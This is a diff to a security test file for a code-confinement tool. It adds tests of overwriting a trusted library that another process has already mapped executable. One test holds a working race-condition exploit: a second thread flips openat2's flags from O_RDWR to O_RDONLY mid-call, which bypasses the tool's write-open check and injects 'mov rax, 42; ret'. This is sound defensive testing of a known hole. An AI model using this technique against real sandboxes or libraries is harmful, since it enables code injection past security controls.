@@ -1,6 +1,10 @@
 """Native untrusted code through a write to a trusted library that is already mapped executable
 (issue 8, route 3, first bullet), tracepoint backend.
 
+Closed for plain open/openat (the first-seen handler refuses write opens of trusted content,
+trustdb/write_opens.py), open for openat2 (the flags are read from the opener's memory after
+the kernel copied them: a second thread rewrites them to O_RDONLY while the open waits).
+
 A trusted library copied into the workdir (a venv's extension module, a vendored .so) is
 verified and mapped executable by one confined process. A second confined process then opens
 the same file for writing and overwrites one function with `mov rax, 42; ret`. The executable
@@ -30,13 +34,64 @@ addr = ctypes.cast(fn, ctypes.c_void_p).value
 base = min(int(l.split("-")[0], 16) for l in open("/proc/self/maps")
            if l.rstrip().endswith("victimlib.bin") and int(l.split()[2], 16) == 0)
 code = b"\\x48\\xc7\\xc0\\x2a\\x00\\x00\\x00\\xc3"  # mov rax, 42; ret
-w = subprocess.run([sys.executable, "-c",
-    "import sys; f=open('victimlib.bin','r+b'); f.seek(int(sys.argv[1])); "
-    "f.write(bytes.fromhex(sys.argv[2]))", str(addr - base), code.hex()],
+w = subprocess.run([sys.executable, sys.argv[1], str(addr - base), code.hex()],
     capture_output=True, text=True)
-print("writer", w.returncode, w.stderr.strip()[-200:])
+print("writer", w.returncode, w.stdout.strip(), w.stderr.strip()[-200:])
 print("RESULT", fn())
 '''
+
+PLAIN_WRITER = '''
+import sys
+with open("victimlib.bin", "r+b") as f:
+    f.seek(int(sys.argv[1]))
+    f.write(bytes.fromhex(sys.argv[2]))
+'''
+
+# openat2(O_RDWR) in one thread; once it is blocked in the open (its /proc syscall line shows
+# 437), a second thread rewrites open_how.flags to O_RDONLY: the kernel already copied O_RDWR,
+# the handler reads O_RDONLY from our memory.
+OPENAT2_WRITER = '''
+import ctypes, os, sys, threading, time
+libc = ctypes.CDLL(None, use_errno=True)
+class OpenHow(ctypes.Structure):
+    _fields_ = [("flags", ctypes.c_uint64), ("mode", ctypes.c_uint64), ("resolve", ctypes.c_uint64)]
+off, code = int(sys.argv[1]), bytes.fromhex(sys.argv[2])
+for attempt in range(400):
+    how = OpenHow(os.O_RDWR, 0, 0)
+    result = {}
+    def opener():
+        result["tid"] = threading.get_native_id()
+        result["fd"] = libc.syscall(437, -100, b"victimlib.bin", ctypes.byref(how),
+                                    ctypes.sizeof(how))
+    t = threading.Thread(target=opener)
+    t.start()
+    while "tid" not in result:
+        pass
+    path = f"/proc/self/task/{result['tid']}/syscall"
+    deadline = time.monotonic() + 2
+    while time.monotonic() < deadline and "fd" not in result:
+        try:
+            if open(path).read().startswith("437 "):
+                how.flags = os.O_RDONLY
+                break
+        except OSError:
+            pass
+    t.join()
+    if result["fd"] >= 0:
+        os.pwrite(result["fd"], code, off)
+        print("won on attempt", attempt)
+        break
+'''
+
+
+def _attack(db: Path, env: dict[str, str], writer: str) -> str:
+    workdir = workdir_of(env)
+    shutil.copyfile(_trusted_extension(), workdir / "victimlib.bin")
+    (workdir / "victim.txt").write_text(VICTIM)
+    (workdir / "writer.txt").write_text(writer)
+    got = run_confined(db, f"{sys.executable} victim.txt writer.txt", env)
+    assert "writer" in got.out, (got.out, got.err)  # the victim ran its library at all
+    return got.out
 
 
 def _trusted_extension() -> Path:
@@ -48,15 +103,18 @@ def _trusted_extension() -> Path:
     return found[0]
 
 
+def test_plain_write_open_refused(interpreters_db: Path, run_env: dict[str, str]) -> None:
+    """Closed: open(2) for writing of the mapped trusted library is refused (EPERM)."""
+    out = _attack(interpreters_db, run_env, PLAIN_WRITER)
+    assert "RESULT 42" not in out, out
+
+
 @pytest.mark.xfail(strict=True, raises=AssertionError, reason=(
-    "HOLE: a confined process may open for write a trusted file another confined process has "
-    "mapped executable; the mapping runs the new bytes (no write-open denial for files that "
-    "are mapped executable or trusted, on the tracepoint backend)"))
-def test_overwrite_a_mapped_trusted_library(interpreters_db: Path,
-                                            run_env: dict[str, str]) -> None:
-    workdir = workdir_of(run_env)
-    shutil.copyfile(_trusted_extension(), workdir / "victimlib.bin")
-    (workdir / "victim.txt").write_text(VICTIM)
-    got = run_confined(interpreters_db, f"{sys.executable} victim.txt", run_env)
-    assert "writer" in got.out, (got.out, got.err)  # the victim ran its library at all
-    assert "RESULT 42" not in got.out, got.out
+    "HOLE: the write-open refusal reads openat2's flags from the opener's memory, after the "
+    "kernel copied them: a second thread flips open_how.flags to O_RDONLY while the open "
+    "waits, the open completes O_RDWR and the mapped trusted library runs the new bytes "
+    "(trustdb/write_opens.py)"))
+def test_openat2_flags_flipped_while_the_open_waits(interpreters_db: Path,
+                                                    run_env: dict[str, str]) -> None:
+    out = _attack(interpreters_db, run_env, OPENAT2_WRITER)
+    assert "RESULT 42" not in out, out
